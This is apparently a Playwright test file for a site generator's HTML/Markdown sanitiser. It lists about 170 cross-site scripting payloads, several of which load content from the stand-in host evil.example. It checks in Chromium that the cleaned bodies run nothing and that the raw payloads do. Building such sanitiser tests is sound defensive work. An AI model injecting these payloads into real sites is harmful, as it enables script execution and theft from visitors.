"""Known attacks, written as bodies: on one page in a real Chromium none of them runs, asks or fetches anything.

The control shows that the same payloads do run when they are not cleaned, so the check can fail.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from html import escape
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

from generator.load.body import load_body
from generator.load.markdown import to_html
from generator.model.body import LinkRef, MediaRef, QuoteRef, Segment

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

PATH = "content/kowhai/case-studies/attack.md"
TAB = "\t"

# Each calls `alert(1)` in its own way. `evil.example` must never be asked for anything.
PAYLOADS = (
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script >",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script src="https://evil.example/x.js"></script>',
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)//",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'<script>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    "<script>\n\nalert(1)\n\n</script>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x:x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img alt='`onerror=alert(1) ' src=x>",
    "<img\nsrc=x\nonerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x\x00 onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<p onclick=alert(1)>click</p>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source src=x onerror=alert(1)></video>",
    "<object data=x onerror=alert(1)></object>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div tabindex=0 autofocus onfocus=alert(1)>x</div>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=data:, onload=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<p style='animation-name:x' onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>",
    "<a href=# onmouseover=alert(1)>x</a>",
    '<b onmouseover="alert(1)">x</b>',
    "<xss onpointerrawupdate=alert(1) onclick=alert(1)>x</xss>",
    "<div contenteditable onbeforeinput=alert(1) onfocus=alert(1) autofocus>x</div>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='&#0000106&#0000097vascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='jav&Tab;ascript&colon;alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#14;  javascript:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='javascript://%0aalert(1)'>x</a>",
    f"<a href='java{TAB}script:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<img src='https://evil.example/x.png'>",
    "<img src='//evil.example/x.png'>",
    "<img srcset='https://evil.example/x.png 1x' src=a.png>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<table background='https://evil.example/x.png'><tr><td>x</td></tr></table>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='5;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<area href=javascript:alert(1)>x</area>",
    "<blockquote cite='https://evil.example/'>x</blockquote>",
    # frames and plug-ins
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<embed src=https://evil.example/x.swf>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # drawings and formulas
    "<svg onload=alert(1)></svg>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) onbegin=alert(1)></svg>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a/></svg>#x'></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    # mutation: harmless once read, harmful when read again
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style><img title='</style><img src onerror=alert(1)>'></style></svg>",
    "<math><mtext><mglyph><style><![CDATA[</style>"
    "<img title=\"]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<table><td><svg><desc><td><img src=x onerror=alert(1)></desc></svg></table>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<a href='x' title='&quot;><img src=x onerror=alert(1)>'>x</a>",
    "<img alt='\"><img src=x onerror=alert(1)>' src='a.png'>",
    "<abbr title='</abbr><script>alert(1)</script>'>x</abbr>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>&x;",
    "<p id='x' class='y' title='a\" onmouseover=alert(1) b=\"'>x</p>",
    "<plaintext><img src=x onerror=alert(1)>",
    # Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](a.md 'title\" onmouseover=\"alert(1)')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]\n\n[y]: <javascript:alert(1)> 'z'",
    "[x](a.md \"><img src=x onerror=alert(1)>\")",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](a.png)",
    "![x](a.png\"onerror=\"alert(1))",
    "![x](a.png '\"><img src=x onerror=alert(1)>')",
    "![x](https://evil.example/x.png)",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=\"alert(1)>",
    "<a@b.example\"onmouseover=alert(1)>",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "x[^\"onmouseover=alert(1)]\n\n[^\"onmouseover=alert(1)]: y",
    "# x {: onmouseover=alert(1) #main }",
    "x\n{: onclick=alert(1) style='background:url(https://evil.example/)' }",
    "[x](a.md){: onmouseover=alert(1) href=javascript:alert(1) }",
    "![x](a.png){: src=x onerror=alert(1) }",
    "*[XSS]: \"><img src=x onerror=alert(1)>\n\nXSS",
    "```\" onmouseover=\"alert(1)\n</code><img src=x onerror=alert(1)>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    <script>alert(1)</script>",
    "|<img src=x onerror=alert(1)>|\n|---|\n|[x](javascript:alert(1))|",
    "> <img src=x onerror=alert(1)>\n> — [<img src=x onerror=alert(1)>](../videos/x.md)",
    "x\n: <img src=x onerror=alert(1)>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div><img src=x onerror=alert(1)>",
    "\x02wzxhzdk:0\x03<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;<img src=x onerror=alert(1)>",
    # what is looked up by name
    "<form id=document><input name=cookie></form><a id=alert href='javascript:alert(1)'>x</a>",
    "<img name=getElementById src=x onerror=alert(1)>",
)  # fmt: skip

# Points at everything and clicks it; only links to scripts are followed, since all others would leave the page.
PROVOKE = """() => {
  const stay = (event) => {
    const link = event.target.closest("a[href]");
    if (link && link.protocol && link.protocol !== "javascript:") event.preventDefault();
  };
  document.addEventListener("click", stay, true);
  for (const element of document.querySelectorAll("body *")) {
    for (const name of ["mouseover", "focus", "beforeinput"]) element.dispatchEvent(new Event(name));
    element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  }
}"""
PRELUDE = "<script>window.ran = []; window.alert = (...words) => ran.push(words);</script>"
# What each frame of the control begins with.
FRAME_PRELUDE = f"<script>alert = () => parent.ran.add(NUMBER); addEventListener('load', {PROVOKE});</script>"


def joined(segments: tuple[Segment, ...]) -> str:
    """The body's HTML as a page would hold it, with each address escaped and every picture and quote in its place."""
    return "".join(_html(segment) for segment in segments)


def _html(segment: Segment) -> str:
    if isinstance(segment, str):
        return segment
    if isinstance(segment, QuoteRef):
        return f"<blockquote>{joined(segment.content)}<footer>{escape(segment.label)}</footer></blockquote>"
    address = escape(segment.target.url or quote(segment.target.path))
    if isinstance(segment, LinkRef):
        return f' href="{address}"'
    assert isinstance(segment, MediaRef)
    css, alt, caption = (escape(words) for words in (segment.css, segment.alt, segment.caption))
    return f'<img class="{css}" src="{address}" alt="{alt}" title="{caption}">'


@contextmanager
def watched(chromium: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page, and what happens on it that must not: requests to other hosts, dialogs, other pages."""
    context = chromium.new_context()
    events: list[str] = []
    page = context.new_page()
    context.on("page", lambda other: events.append(f"page {other.url}"))
    context.on("request", lambda request: None if _is_ours(request.url) else events.append(f"request {request.url}"))
    page.on("dialog", lambda dialog: (events.append(f"dialog {dialog.message}"), dialog.dismiss()))
    context.route(lambda url: not _is_ours(url), lambda route: route.abort())
    try:
        yield page, events
    finally:
        context.close()


def _is_ours(url: str) -> bool:
    return url.startswith(("file:", "data:", "about:"))


def test_no_payload_does_anything(chromium: Browser, tmp_path: Path) -> None:
    bodies = [load_body(payload, path=PATH, first_line=1)[0] for payload in PAYLOADS]
    parts = "\n".join(f"<section>{joined(body.segments)}</section>" for body in bodies)
    file = tmp_path / "clean.html"
    file.write_text(f"<!doctype html><meta charset=utf-8><title>x</title>{PRELUDE}<main>{parts}</main>", "utf-8")
    with watched(chromium) as (page, events):
        page.goto(file.as_uri())
        found = page.evaluate(
            """() => ({
              sections: document.querySelectorAll("main > section").length,
              tags: [...new Set([...document.querySelectorAll("main *")].map((e) => e.localName))].sort(),
              schemes: [...new Set([...document.querySelectorAll("main [href]")].map((e) => e.protocol))].sort(),
              attributes: [...new Set([...document.querySelectorAll("main *")].flatMap((e) => e.getAttributeNames()))],
            })"""
        )
        page.evaluate(PROVOKE)
        # Read as HTML a second time, what was harmless must still be.
        page.evaluate("() => { const main = document.querySelector('main'); main.innerHTML = main.innerHTML; }")
        page.evaluate(PROVOKE)
        page.wait_for_timeout(300)
        ran = page.evaluate("ran")
        here = page.url
    assert len(PAYLOADS) >= 120
    assert (ran, events, here) == ([], [], file.as_uri())
    assert found["sections"] == len(PAYLOADS), "A body has closed or swallowed another's element."
    assert not set(found["tags"]) & {
        "script",
        "style",
        "iframe",
        "svg",
        "math",
        "form",
        "input",
        "object",
        "base",
        "meta",
    }
    assert set(found["schemes"]) <= {"https:", "file:", "mailto:"}
    assert not [name for name in found["attributes"] if name.startswith("on") or name in ("style", "srcset", "name")]


def test_the_control_the_same_payloads_run_when_raw(chromium: Browser, tmp_path: Path) -> None:
    """Each payload in a frame of its own, so that one that swallows the rest of the page hides no other."""
    raw = [
        FRAME_PRELUDE.replace("NUMBER", str(number)) + to_html(payload, path=PATH, first_line=1)[0]
        for number, payload in enumerate(PAYLOADS)
    ]
    data = json.dumps(raw).replace("<", "\\u003c")
    script = (
        f"window.ran = new Set(); for (const html of {data}) {{ const frame = document.createElement('iframe');"
        " frame.srcdoc = html; document.body.append(frame); }"
    )
    file = tmp_path / "raw.html"
    file.write_text(f"<!doctype html><meta charset=utf-8><title>x</title><body><script>{script}</script>", "utf-8")
    with watched(chromium) as (page, events):
        page.goto(file.as_uri())
        page.wait_for_timeout(300)
        ran = page.evaluate("[...ran]")
    assert len(ran) >= 60, f"Only {len(ran)} raw payloads ran."
    assert any("evil.example" in event for event in events)
